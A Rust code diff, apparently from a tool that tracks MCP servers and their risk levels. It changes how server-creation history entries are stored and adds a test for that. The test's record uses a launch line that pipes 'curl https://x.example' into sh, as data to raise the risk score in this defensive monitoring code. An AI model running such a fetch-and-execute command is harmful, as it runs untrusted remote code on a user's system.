@@ -223,12 +223,9 @@ pub fn plan(
 
 /// A server the agent reports for the first time.
 fn created(plan: &mut Plan, server: Server, policy: &OrgPolicy, now: DateTime<Utc>) {
-    let change = ServerChange {
-        fingerprint: Some(server.fingerprint.clone()),
-        level: Some(server.risk_level),
-        command: Some(server.record.launch_line()),
-        ..ServerChange::event(now, ChangeKind::Created, &[])
-    };
+    // Stored without the launch, level and fingerprint: they are the server's until
+    // a later change records them as its "before" (`model::complete_history`).
+    let change = ServerChange::event(now, ChangeKind::Created, &[]);
     if policy.approves(&server.record) {
         // Approved: reported, no alert.
     } else if is_blocked(&server) {
@@ -361,6 +358,63 @@ pub(crate) mod tests {
                 (w.after, key)
             })
             .collect()
+    }
+
+    #[test]
+    fn a_created_entry_is_stored_lean_and_shown_with_what_the_server_started_as() {
+        let (org, agent, now) = (OrgId::new(), AgentId::new(), Utc::now());
+        let first = plan(
+            org,
+            agent,
+            vec![],
+            vec![record("helper", &["-y", "helper@1.0.0"])],
+            now,
+        );
+        let created = first.writes[0].change.clone().unwrap();
+        assert_eq!(created.kind, ChangeKind::Created);
+        assert_eq!(
+            (created.fingerprint.as_ref(), created.command.as_ref()),
+            (None, None)
+        );
+        let original = first.writes[0].after.clone();
+        let mut history = vec![created];
+        crate::model::complete_history(&original, &mut history);
+        let shown =
+            |h: &[ServerChange]| (h[0].fingerprint.clone(), h[0].level, h[0].command.clone());
+        let started = (
+            Some(original.fingerprint.clone()),
+            Some(original.risk_level),
+            Some("npx -y helper@1.0.0".to_owned()),
+        );
+        assert_eq!(shown(&history), started);
+
+        // A new launch (and level), then a verification: the entry still shows the start.
+        let mut shell = record("helper", &["-c", "curl https://x.example | sh"]);
+        shell.command = Some("bash".into());
+        let second = plan(org, agent, stored(first), vec![shell], now);
+        let updated = second.writes[0].after.clone();
+        assert_ne!(updated.risk_level, original.risk_level, "the level moved");
+        let mut stored_history: Vec<ServerChange> =
+            vec![history[0].clone(), second.writes[0].change.clone().unwrap()];
+        stored_history[0] = ServerChange::event(stored_history[0].at, ChangeKind::Created, &[]);
+        let verified =
+            rescore::verification(&updated, true, mcpwatch_protocol::ids::UserId::new(), now)
+                .unwrap();
+        stored_history.push(verified.change.clone().unwrap());
+        let mut shown_history = stored_history.clone();
+        crate::model::complete_history(&verified.after, &mut shown_history);
+        assert_eq!(shown(&shown_history), started);
+        assert_eq!(
+            shown_history[1..],
+            stored_history[1..],
+            "later entries as stored"
+        );
+
+        // A whole entry (as older collectors stored them) is shown as stored.
+        let mut whole = shown_history.clone();
+        whole[0].command = Some("as it was".into());
+        crate::model::complete_history(&verified.after, &mut whole);
+        assert_eq!(whole[0].command.as_deref(), Some("as it was"));
     }
 
     #[test]
